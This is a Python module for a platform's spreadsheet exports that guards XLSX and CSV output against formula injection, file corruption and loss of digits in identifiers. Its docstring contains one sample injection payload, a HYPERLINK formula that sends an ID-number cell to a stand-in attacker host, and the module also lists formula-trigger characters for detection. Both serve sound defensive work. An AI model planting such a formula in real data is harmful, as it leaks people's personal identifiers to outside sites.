"""The one way the platform writes spreadsheets (XLSX and CSV) that people open in Excel or WPS.

Every export goes through here, because a spreadsheet is a program as much as a document:

- **No user text becomes a formula** (issue 15, item 6; OWASP "CSV Injection"). openpyxl
  turns any ``str`` that starts with ``=`` into a live formula and ``#N/A``, ``#REF!`` … into
  error cells; in write-only mode ``sheet.append()`` does so silently. A title, a candidate's
  name or a register name such as ``=HYPERLINK("http://evil.example/"&C2,"点击")`` would then
  send the full ID number in column C to another website when clicked. Here every ``str`` is
  an inline string (``t="inlineStr"``, data type ``"s"``) formatted as text (``@``), so the
  sheet's XML never holds an ``<f>`` element for it and Excel does not evaluate it, not even
  when someone edits the cell and presses Enter. In CSV, where there are no types, a value
  starting with ``= + - @``, a tab or a carriage return (and their full-width forms, which
  Chinese input methods produce) gets a leading ``'``.
- **The file is never damaged.** XML 1.0 cannot hold most control characters (``\\x01``,
  ``\\x1b`` …), lone surrogates or U+FFFE/U+FFFF; Excel refuses or "repairs" such a file and
  openpyxl refuses to write it. They are replaced by U+FFFD (�), so the reader sees that
  something was there. Text longer than Excel's 32,767 characters per cell is cut with "…".
  A masked name such as ``=*****`` (the mask of a hostile name) is text too, not a broken
  formula that made Excel report a damaged file.
- **Numbers are numbers, identifiers are text.** ``int`` and ``Decimal`` are written as
  numbers; but Excel keeps 15 significant digits, so an integer of 16 digits or more (an ID
  number, an account number) is written as text rather than turned into 1.10101199003070E+17.
  Strings are never converted: an 18-digit ID number or a mobile number passed as ``str``
  stays exactly that. Floats are refused: money is integer fen, shown as ``Decimal`` yuan.
  A CSV file cannot say that a field is text: Excel shows an 18-digit ID number in a CSV as
  1.10101E+17 and saves it so. Exports that hold identifiers are XLSX.

Use :class:`XlsxWorkbook` (write-only, streams large rosters) and :func:`csv_bytes` /
:func:`csv_cell`; never ``openpyxl.Workbook`` or ``csv.writer`` directly in an export.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from copy import copy
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell

#: Characters XML 1.0 cannot hold (https://www.w3.org/TR/xml/#charsets), everything except
#: tab, LF, CR, U+0020–U+D7FF, U+E000–U+FFFD and U+10000–U+10FFFF.
XML_ILLEGAL = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
REPLACEMENT = "\ufffd"
#: What Excel would read as an escaped character: the underscore gets escaped itself.
OOXML_ESCAPE = re.compile("_(?=x[0-9A-Fa-f]{4}_)")
#: Excel's limit on the characters of one cell.
MAX_CELL_CHARS = 32_767
#: Excel's precision: integers with more digits lose their last digits.
MAX_EXACT_DIGITS = 15
#: First characters that make a spreadsheet program read a CSV field as a formula (OWASP),
#: with the full-width forms Chinese input methods type.
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TEXT_FORMAT = "@"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
DATE_FORMAT = "yyyy-mm-dd"


def clean_cell_text(value: str) -> str:
    """``value`` as a cell can hold it: line breaks as LF (an XML reader turns a bare CR into
    LF anyway), XML-illegal characters replaced by U+FFFD, cut to Excel's 32,767 characters."""
    text = XML_ILLEGAL.sub(REPLACEMENT, value.replace("\r\n", "\n").replace("\r", "\n"))
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return text


def ooxml_text(value: str) -> str:
    """``value`` cleaned and escaped for a cell of an XLSX file: Excel reads ``_xHHHH_`` in a
    string as the character U+HHHH, so a literal ``_x0041_`` is written ``_x005F_x0041_``
    (ECMA-376 Part 1, 22.9.2.19 ST_Xstring) and reads back as typed."""
    return OOXML_ESCAPE.sub("_x005F_", clean_cell_text(value))


def csv_cell(value: Any) -> str:
    """One CSV field: numbers as they are; text as it is, except that when a spreadsheet
    would read it as a formula it is led by a single quote (``=1+2`` → ``'=1+2``)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, int | Decimal):
        return str(value)
    if isinstance(value, float):
        raise TypeError("floats are not written to spreadsheets: use int fen or Decimal yuan")
    if isinstance(value, datetime | date):
        return value.isoformat(sep=" ") if isinstance(value, datetime) else value.isoformat()
    text = str(value)
    if text.startswith(CSV_FORMULA_START):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A CSV file Excel opens correctly (UTF-8, with a BOM unless ``bom=False``), every field
    through :func:`csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode()


@dataclass(frozen=True, slots=True)
class Cell:
    """A value with presentation: a number format (for numbers and times), bold, wrapped."""

    value: Any
    number_format: str | None = None
    bold: bool = False
    wrap: bool = False


class XlsxSheet:
    """One worksheet of an :class:`XlsxWorkbook`; rows are appended in order."""

    def __init__(self, book: XlsxWorkbook, title: str) -> None:
        self._book = book
        self._sheet = book._workbook.create_sheet(title)

    def widths(self, widths: Iterable[float]) -> None:
        from openpyxl.utils import get_column_letter

        for number, width in enumerate(widths, start=1):
            self._sheet.column_dimensions[get_column_letter(number)].width = width

    def freeze(self, coordinate: str) -> None:
        self._sheet.freeze_panes = coordinate

    def append(self, values: Iterable[Any] = ()) -> None:
        """A row: each value a ``str`` (text), ``int``/``Decimal`` (number), ``datetime``
        (naive, local), ``bool``, ``None`` (empty) or a :class:`Cell`."""
        self._sheet.append([self._cell(value) for value in values])

    def _cell(self, value: Any) -> WriteOnlyCell:
        from openpyxl.cell import WriteOnlyCell

        spec = value if isinstance(value, Cell) else Cell(value)
        raw = spec.value
        number_format = spec.number_format
        # The data type is set here, never inferred by openpyxl's value setter, which makes
        # "=…" a formula and "#N/A" an error cell.
        if isinstance(raw, str):
            raw, data_type, number_format = ooxml_text(raw), "s", TEXT_FORMAT
        elif isinstance(raw, bool):
            data_type = "b"
        elif isinstance(raw, int):
            data_type = "n"
            if abs(raw) >= 10**MAX_EXACT_DIGITS:
                raw, data_type, number_format = str(raw), "s", TEXT_FORMAT
        elif isinstance(raw, Decimal):
            data_type = "n"
            if not raw.is_finite():
                raise ValueError(f"cannot write {raw} to a spreadsheet")
            if len(raw.as_tuple().digits) > MAX_EXACT_DIGITS:
                raw, data_type, number_format = str(raw), "s", TEXT_FORMAT
        elif isinstance(raw, datetime | date):
            if isinstance(raw, datetime) and raw.tzinfo is not None:
                raise TypeError("datetimes are written in local time, without tzinfo")
            data_type = "d"
            if number_format is None:
                number_format = DATETIME_FORMAT if isinstance(raw, datetime) else DATE_FORMAT
        elif raw is None:
            data_type = "n"
        elif isinstance(raw, float):
            raise TypeError("floats are not written to spreadsheets: use int fen or Decimal yuan")
        else:
            raise TypeError(f"cannot write {type(raw).__name__} to a spreadsheet")

        cell = WriteOnlyCell(self._sheet)
        cell._value = raw
        cell.data_type = data_type
        style = self._book._style(self._sheet, number_format, spec.bold, spec.wrap)
        if style is not None:
            cell._style = copy(style)
        return cell


class XlsxWorkbook:
    """A write-only (streaming) XLSX workbook whose cells are typed as described above."""

    def __init__(self) -> None:
        from openpyxl import Workbook
        from openpyxl.styles import Alignment, Font

        self._workbook = Workbook(write_only=True)
        self._bold = Font(bold=True)
        self._wrap = Alignment(wrap_text=True, vertical="top")
        self._styles: dict[tuple, Any] = {}

    def _style(self, sheet, number_format: str | None, bold: bool, wrap: bool):
        """The cell style (openpyxl's StyleArray) of one combination, registered once: setting
        a number format or font on each cell costs more than writing the cell."""
        if number_format is None and not bold and not wrap:
            return None
        key = (number_format, bold, wrap)
        if key not in self._styles:
            from openpyxl.cell import WriteOnlyCell

            prototype = WriteOnlyCell(sheet)  # registers the style in the workbook
            if number_format:
                prototype.number_format = number_format
            if bold:
                prototype.font = self._bold
            if wrap:
                prototype.alignment = self._wrap
            self._styles[key] = prototype._style
        return self._styles[key]

    def sheet(self, title: str) -> XlsxSheet:
        return XlsxSheet(self, title)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()
